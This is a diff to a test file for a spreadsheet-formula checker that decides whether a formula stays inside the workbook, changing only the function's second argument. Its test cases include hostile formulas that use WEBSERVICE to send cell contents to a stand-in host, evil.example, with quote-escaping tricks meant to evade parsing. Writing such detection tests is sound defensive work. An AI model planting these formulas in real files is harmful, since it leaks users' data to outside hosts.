@@ -38,7 +38,7 @@ describe("A formula that a file claims", () => {
     "=SUM(Leads[Jobs])*TaxRate",
     "=REDUCE(0,A1:A3,LAMBDA(a,b,a+b))",
   ])("stays inside: %s", (formula) => {
-    expect(staysInside(formula, "SCOUT")).toBe(true);
+    expect(staysInside(formula, true)).toBe(true);
   });
 
   it.each([
@@ -62,6 +62,6 @@ describe("A formula that a file claims", () => {
     `=Leads[a"b]&WEBSERVICE("https://evil.example/?"&A1)&Leads[c"d]`,
     `=Leads[a'["b]&WEBSERVICE("https://evil.example/?"&A1)&Leads[c"d]`,
   ])("reaches outside: %s", (formula) => {
-    expect(staysInside(formula, "SCOUT")).toBe(false);
+    expect(staysInside(formula, true)).toBe(false);
   });
 });
